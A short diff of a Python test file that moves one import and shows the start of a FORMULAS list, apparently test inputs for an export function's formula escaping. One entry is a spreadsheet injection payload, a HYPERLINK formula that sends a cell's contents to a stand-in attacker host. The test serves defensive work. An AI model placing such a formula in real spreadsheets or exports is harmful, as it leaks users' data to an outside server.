@@ -17,7 +17,7 @@ from workflows_ui.lists.export import escape_formulas
 from workflows_ui.members.models import Flavour
 from workflows_ui.resource_admin.resource import Resource
 from workflows_ui.resources import RESOURCES
-from workflows_ui.resources.tables import views as table_views
+from workflows_ui.tables import views as table_views
 
 FORMULAS = [
     '=HYPERLINK("http://evil.invalid/?"&A1,"Click")',
